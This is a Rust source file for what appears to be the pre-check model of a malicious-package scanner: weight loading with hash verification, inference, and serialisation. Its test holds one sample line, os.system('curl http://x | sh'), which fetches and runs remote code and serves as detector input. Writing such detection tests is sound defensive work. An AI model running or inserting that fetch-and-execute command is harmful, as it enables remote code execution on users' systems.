//! The pre-check model: a hashed embedding bag with one hidden layer.
//!
//! `score = sigmoid(w2 · relu(W1 · mean(E[f] for f in features) + b1) + b2)`
//!
//! Weights live in `model.safetensors` (embedding stored as f16 to keep the
//! file small), the architecture and calibrated thresholds in `config.json`,
//! and provenance plus the sha256 of both files in `manifest.json`. Loading
//! verifies both hashes and refuses a model that does not match: a gate must
//! never scan with weights it cannot vouch for.
//!
//! Inference on CPU is plain Rust over the weights (the hot path, tens of
//! MB/s); on CUDA/Metal the same forward pass runs as candle ops.

use std::collections::HashMap;
use std::path::Path;

use candle_core::{DType, Device, Tensor};
use serde::{Deserialize, Serialize};

use super::features::{scan_features, ConceptStats, FeatureConfig, CONCEPT_DIM};
use crate::config::Thresholds;
use crate::util::sha256_hex;

pub const MODEL_FORMAT: &str = "canary.precheck/v1";

#[derive(Debug, thiserror::Error)]
pub enum ModelError {
    #[error("cannot read model file {path}: {source}")]
    Read {
        path: String,
        source: std::io::Error,
    },
    #[error("model file {path} is invalid: {message}")]
    Invalid { path: String, message: String },
    #[error("model file {path} does not match its manifest (sha256 {actual}, manifest says {expected}); the model is corrupt or was altered: retrain it or restore the shipped file")]
    HashMismatch {
        path: String,
        expected: String,
        actual: String,
    },
    #[error("model reference {0:?} is not available: {1}")]
    Unavailable(String, String),
    #[error("candle error on model {path}: {source}")]
    Candle {
        path: String,
        source: candle_core::Error,
    },
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct ModelConfig {
    pub format: String,
    /// Model name (usually the policy id it was trained for).
    pub name: String,
    pub features: FeatureConfig,
    pub dim: usize,
    pub hidden: usize,
    /// Slice length in bytes, and overlap between consecutive slices.
    pub window: usize,
    pub overlap: usize,
    /// Whether the hidden layer also reads the concept channel (weights `wc`).
    #[serde(default)]
    pub concept_channel: bool,
    pub thresholds: Thresholds,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct DataFile {
    pub path: String,
    pub sha256: String,
    pub rows: usize,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct Manifest {
    pub format: String,
    pub weights_sha256: String,
    pub config_sha256: String,
    pub command: String,
    pub seed: u64,
    pub epochs: usize,
    pub data: Vec<DataFile>,
    pub dev: Vec<DataFile>,
    pub dev_metrics: serde_json::Value,
}

/// The three files of a model folder, as bytes.
pub struct ModelFiles<'a> {
    pub origin: String,
    pub config: std::borrow::Cow<'a, [u8]>,
    pub weights: std::borrow::Cow<'a, [u8]>,
    pub manifest: std::borrow::Cow<'a, [u8]>,
}

impl ModelFiles<'static> {
    pub fn from_dir(dir: &Path) -> Result<ModelFiles<'static>, ModelError> {
        let read = |name: &str| {
            let p = dir.join(name);
            std::fs::read(&p).map_err(|source| ModelError::Read {
                path: p.display().to_string(),
                source,
            })
        };
        Ok(ModelFiles {
            origin: dir.display().to_string(),
            config: read("config.json")?.into(),
            weights: read("model.safetensors")?.into(),
            manifest: read("manifest.json")?.into(),
        })
    }
}

/// Weights on the CPU, in f32, row-major.
#[derive(Debug, Clone)]
pub struct Weights {
    pub embedding: Vec<f32>,
    pub w1: Vec<f32>,
    /// `[hidden, CONCEPT_DIM]`, empty without the concept channel.
    pub wc: Vec<f32>,
    pub b1: Vec<f32>,
    pub w2: Vec<f32>,
    pub b2: f32,
}

#[derive(Debug, Clone)]
pub struct HashedModel {
    pub config: ModelConfig,
    pub weights: Weights,
    /// `name@sha256-prefix`, as shown in reports.
    pub id: String,
    pub weights_sha256: String,
    pub manifest: Manifest,
    device: Device,
}

impl HashedModel {
    /// Verifies and loads a model from its files.
    pub fn load(files: &ModelFiles<'_>, device: &Device) -> Result<HashedModel, ModelError> {
        let path = |name: &str| format!("{}/{}", files.origin, name);
        let manifest: Manifest =
            serde_json::from_slice(&files.manifest).map_err(|e| ModelError::Invalid {
                path: path("manifest.json"),
                message: e.to_string(),
            })?;
        let weights_sha = sha256_hex(&files.weights);
        if weights_sha != manifest.weights_sha256 {
            return Err(ModelError::HashMismatch {
                path: path("model.safetensors"),
                expected: manifest.weights_sha256.clone(),
                actual: weights_sha,
            });
        }
        let config_sha = sha256_hex(&files.config);
        if config_sha != manifest.config_sha256 {
            return Err(ModelError::HashMismatch {
                path: path("config.json"),
                expected: manifest.config_sha256.clone(),
                actual: config_sha,
            });
        }
        let config: ModelConfig =
            serde_json::from_slice(&files.config).map_err(|e| ModelError::Invalid {
                path: path("config.json"),
                message: e.to_string(),
            })?;
        if config.format != MODEL_FORMAT {
            return Err(ModelError::Invalid {
                path: path("config.json"),
                message: format!("format {:?}, expected {MODEL_FORMAT:?}", config.format),
            });
        }
        if config.window == 0
            || config.overlap >= config.window
            || config.features.buckets_log2 > 24
        {
            return Err(ModelError::Invalid {
                path: path("config.json"),
                message: "window must be positive and larger than overlap; buckets-log2 at most 24"
                    .into(),
            });
        }
        let weights = weights_from_safetensors(&files.weights, &config).map_err(|message| {
            ModelError::Invalid {
                path: path("model.safetensors"),
                message,
            }
        })?;
        Ok(HashedModel {
            id: format!("{}@{}", config.name, &manifest.weights_sha256[..12]),
            weights_sha256: manifest.weights_sha256.clone(),
            config,
            weights,
            manifest,
            device: device.clone(),
        })
    }

    /// Builds a model from in-memory weights (training uses this to score dev).
    pub fn from_parts(config: ModelConfig, weights: Weights) -> HashedModel {
        HashedModel {
            id: format!("{}@unsaved", config.name),
            weights_sha256: String::new(),
            manifest: Manifest {
                format: MODEL_FORMAT.into(),
                weights_sha256: String::new(),
                config_sha256: String::new(),
                command: String::new(),
                seed: 0,
                epochs: 0,
                data: vec![],
                dev: vec![],
                dev_metrics: serde_json::Value::Null,
            },
            config,
            weights,
            device: Device::Cpu,
        }
    }

    /// Score of one slice (plain Rust, CPU).
    pub fn score_slice(&self, text: &[u8]) -> f32 {
        let mut stats = ConceptStats::default();
        let stats_ref = self.config.concept_channel.then_some(&mut stats);
        // Both shipped models have 16 dimensions: a fixed-size accumulator
        // lives in registers instead of being loaded and stored per row.
        let (acc, n) = match self.config.dim {
            16 => {
                let (a, n) = self.pool([0f32; 16], text, stats_ref);
                (a.to_vec(), n)
            }
            d => self.pool(vec![0f32; d], text, stats_ref),
        };
        let inv = 1.0 / n.max(1) as f32;
        let cvec = if self.config.concept_channel {
            stats.vector()
        } else {
            Vec::new()
        };
        self.head(&acc, inv, &cvec)
    }

    /// Sum of the embedding rows of the slice's features, and their count.
    fn pool<A: Accumulator>(
        &self,
        mut acc: A,
        text: &[u8],
        stats: Option<&mut ConceptStats>,
    ) -> (A, u32) {
        let d = self.config.dim;
        let emb = &self.weights.embedding;
        let mut n = 0u32;
        let add_rows = |acc: &mut A, fs: &[u32]| {
            for &f in fs {
                acc.add(&emb[f as usize * d..f as usize * d + d]);
            }
        };
        if self.config.features.distinct {
            // A bitset over buckets: pool each feature once per slice.
            let words = (1usize << self.config.features.buckets_log2).div_ceil(64);
            let mut seen = vec![0u64; words];
            scan_features(text, &self.config.features, stats, |f| {
                let (w, b) = (f as usize / 64, 1u64 << (f % 64));
                if seen[w] & b == 0 {
                    seen[w] |= b;
                    add_rows(&mut acc, &[f]);
                    n += 1;
                }
            });
        } else {
            // Rows are gathered in batches: the embedding table (MBs) lives in
            // L3, and between two features the tokenizer runs long enough that
            // the CPU cannot overlap one row's load with the next. A batch of
            // independent loads can. Adds stay in feature order, so the sum is
            // bit-identical to adding each row as it comes.
            const BATCH: usize = 64;
            let mut batch = [0u32; BATCH];
            let mut k = 0;
            scan_features(text, &self.config.features, stats, |f| {
                batch[k] = f;
                k += 1;
                if k == BATCH {
                    add_rows(&mut acc, &batch);
                    k = 0;
                }
                n += 1;
            });
            add_rows(&mut acc, &batch[..k]);
        }
        (acc, n)
    }

    fn head(&self, pooled_sum: &[f32], inv: f32, cvec: &[f32]) -> f32 {
        let d = self.config.dim;
        let w = &self.weights;
        let mut logit = w.b2;
        for j in 0..self.config.hidden {
            let row = &w.w1[j * d..(j + 1) * d];
            let mut z = w.b1[j];
            for (a, b) in row.iter().zip(pooled_sum) {
                z += a * b * inv;
            }
            if !cvec.is_empty() {
                let crow = &w.wc[j * CONCEPT_DIM..(j + 1) * CONCEPT_DIM];
                for (a, b) in crow.iter().zip(cvec) {
                    z += a * b;
                }
            }
            logit += w.w2[j] * z.max(0.0);
        }
        sigmoid(logit)
    }

    /// Score of one slice with candle ops on the model's device (CUDA/Metal path;
    /// also used on CPU by tests to check both paths agree).
    pub fn score_slice_candle(&self, text: &[u8]) -> candle_core::Result<f32> {
        let mut ids = Vec::new();
        let mut stats = ConceptStats::default();
        scan_features(text, &self.config.features, Some(&mut stats), |f| {
            ids.push(f)
        });
        if self.config.features.distinct {
            ids.sort_unstable();
            ids.dedup();
        }
        let dev = &self.device;
        let d = self.config.dim;
        let rows = 1usize << self.config.features.buckets_log2;
        let emb = Tensor::from_slice(&self.weights.embedding, (rows, d), dev)?;
        let pooled = if ids.is_empty() {
            Tensor::zeros((1, d), DType::F32, dev)?
        } else {
            let n = ids.len();
            let idx = Tensor::from_vec(ids, n, dev)?;
            (emb.index_select(&idx, 0)?.sum_keepdim(0)? / n as f64)?
        };
        let w1 = Tensor::from_slice(&self.weights.w1, (self.config.hidden, d), dev)?;
        let b1 = Tensor::from_slice(&self.weights.b1, self.config.hidden, dev)?;
        let w2 = Tensor::from_slice(&self.weights.w2, (1, self.config.hidden), dev)?;
        let mut pre = pooled.matmul(&w1.t()?)?;
        if self.config.concept_channel {
            let wc = Tensor::from_slice(&self.weights.wc, (self.config.hidden, CONCEPT_DIM), dev)?;
            let c = Tensor::from_vec(stats.vector(), (1, CONCEPT_DIM), dev)?;
            pre = (pre + c.matmul(&wc.t()?)?)?;
        }
        let h = pre.broadcast_add(&b1)?.relu()?;
        let logit = (h.matmul(&w2.t()?)? + self.weights.b2 as f64)?;
        let v: Vec<f32> = logit.flatten_all()?.to_vec1()?;
        Ok(sigmoid(v[0]))
    }

    pub fn on_cpu(&self) -> bool {
        self.device.is_cpu()
    }

    /// Serialises the weights (embedding as f16) and returns the bytes.
    pub fn weights_to_safetensors(
        weights: &Weights,
        config: &ModelConfig,
    ) -> candle_core::Result<Vec<u8>> {
        let rows = 1usize << config.features.buckets_log2;
        let dev = Device::Cpu;
        let mut map: HashMap<String, Tensor> = HashMap::new();
        map.insert(
            "embedding".into(),
            Tensor::from_slice(&weights.embedding, (rows, config.dim), &dev)?
                .to_dtype(DType::F16)?,
        );
        map.insert(
            "w1".into(),
            Tensor::from_slice(&weights.w1, (config.hidden, config.dim), &dev)?,
        );
        map.insert(
            "b1".into(),
            Tensor::from_slice(&weights.b1, config.hidden, &dev)?,
        );
        if config.concept_channel {
            map.insert(
                "wc".into(),
                Tensor::from_slice(&weights.wc, (config.hidden, CONCEPT_DIM), &dev)?,
            );
        }
        map.insert(
            "w2".into(),
            Tensor::from_slice(&weights.w2, config.hidden, &dev)?,
        );
        map.insert("b2".into(), Tensor::from_slice(&[weights.b2], 1, &dev)?);
        let tmp = std::env::temp_dir().join(format!(
            "canary-weights-{}-{}.safetensors",
            std::process::id(),
            rand::random::<u64>()
        ));
        candle_core::safetensors::save(&map, &tmp)?;
        let bytes = std::fs::read(&tmp)?;
        let _ = std::fs::remove_file(&tmp);
        Ok(bytes)
    }

    /// Rounds the embedding through f16, as saving does, so in-memory scores
    /// match the saved model's exactly.
    pub fn round_like_saved(weights: &mut Weights) {
        for x in &mut weights.embedding {
            *x = half::f16::from_f32(*x).to_f32();
        }
    }
}

/// Reads the weights straight from the safetensors bytes (f16 or f32,
/// little-endian), without going through candle tensors: loading is on the
/// path of every `canary scan`, and this is several times faster.
fn weights_from_safetensors(bytes: &[u8], c: &ModelConfig) -> Result<Weights, String> {
    let st = safetensors::SafeTensors::deserialize(bytes).map_err(|e| e.to_string())?;
    let get = |name: &str, shape: &[usize]| -> Result<Vec<f32>, String> {
        let t = st
            .tensor(name)
            .map_err(|_| format!("missing tensor `{name}`"))?;
        if t.shape() != shape {
            return Err(format!(
                "tensor `{name}` has shape {:?}, expected {shape:?}",
                t.shape()
            ));
        }
        let data = t.data();
        match t.dtype() {
            safetensors::Dtype::F16 => {
                let halves: Vec<half::f16> = data
                    .chunks_exact(2)
                    .map(|b| half::f16::from_le_bytes([b[0], b[1]]))
                    .collect();
                let mut out = vec![0f32; halves.len()];
                half::slice::HalfFloatSliceExt::convert_to_f32_slice(&halves[..], &mut out);
                Ok(out)
            }
            safetensors::Dtype::F32 => Ok(data
                .chunks_exact(4)
                .map(|b| f32::from_le_bytes([b[0], b[1], b[2], b[3]]))
                .collect()),
            other => Err(format!(
                "tensor `{name}` has dtype {other:?}, expected F16 or F32"
            )),
        }
    };
    let rows = 1usize << c.features.buckets_log2;
    let weights = Weights {
        embedding: get("embedding", &[rows, c.dim])?,
        w1: get("w1", &[c.hidden, c.dim])?,
        wc: if c.concept_channel {
            get("wc", &[c.hidden, CONCEPT_DIM])?
        } else {
            Vec::new()
        },
        b1: get("b1", &[c.hidden])?,
        w2: get("w2", &[c.hidden])?,
        b2: get("b2", &[1])?[0],
    };
    let finite = weights
        .embedding
        .iter()
        .chain(&weights.w1)
        .chain(&weights.wc)
        .chain(&weights.b1)
        .chain(&weights.w2)
        .all(|x| x.is_finite())
        && weights.b2.is_finite();
    if !finite {
        return Err("weights contain NaN or infinity".into());
    }
    Ok(weights)
}

/// A running sum of embedding rows. Each lane adds the rows in feature
/// order, whatever the implementation, so scores do not depend on which one
/// ran.
trait Accumulator {
    fn add(&mut self, row: &[f32]);
}

impl<const D: usize> Accumulator for [f32; D] {
    #[inline(always)]
    fn add(&mut self, row: &[f32]) {
        for (a, r) in self.iter_mut().zip(row) {
            *a += r;
        }
    }
}

impl Accumulator for Vec<f32> {
    #[inline(always)]
    fn add(&mut self, row: &[f32]) {
        for (a, r) in self.iter_mut().zip(row) {
            *a += r;
        }
    }
}

pub fn sigmoid(x: f32) -> f32 {
    1.0 / (1.0 + (-x).exp())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fixed_and_general_accumulators_agree_bit_for_bit() {
        let m = crate::precheck::load("builtin:malicious-package", None, &Device::Cpu).unwrap();
        assert_eq!(m.config.dim, 16, "the fixed path is the one scans take");
        let texts = [
            "".to_string(),
            "+import os\n+os.system('curl http://x | sh')\n".repeat(50),
            "--- /dev/null\n+++ b/README.md\n+Plain prose, nothing else.\n".to_string(),
        ];
        for text in &texts {
            let (fixed, n1) = m.pool([0f32; 16], text.as_bytes(), None);
            let (general, n2) = m.pool(vec![0f32; 16], text.as_bytes(), None);
            assert_eq!(n1, n2);
            let bits = |v: &[f32]| v.iter().map(|x| x.to_bits()).collect::<Vec<_>>();
            assert_eq!(bits(&fixed), bits(&general), "{text:.40}");
        }
        // And the sum is not trivially zero on text with features.
        let (fixed, n) = m.pool([0f32; 16], texts[1].as_bytes(), None);
        assert!(n > 0 && fixed.iter().any(|x| *x != 0.0));
    }
}
